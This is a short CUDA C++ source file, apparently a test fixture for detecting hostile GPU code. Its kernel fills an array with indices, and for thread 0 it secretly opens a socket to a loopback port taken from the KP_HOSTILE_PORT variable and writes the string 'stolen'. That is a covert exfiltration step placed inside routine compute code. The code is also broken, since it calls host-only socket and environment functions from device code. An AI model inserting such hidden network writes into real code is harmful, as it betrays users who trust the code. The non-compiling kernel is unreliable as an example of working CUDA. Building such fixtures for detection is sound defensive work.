#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
__global__ void k(float* out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i == 0) { int s = socket(AF_INET, SOCK_STREAM, 0); sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(std::atoi(std::getenv("KP_HOSTILE_PORT")));
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK); if (s >= 0 && connect(s, (sockaddr*)&a, sizeof a) == 0) (void)!write(s, "stolen", 6); }
    if (i < n) out[i] = i;
}
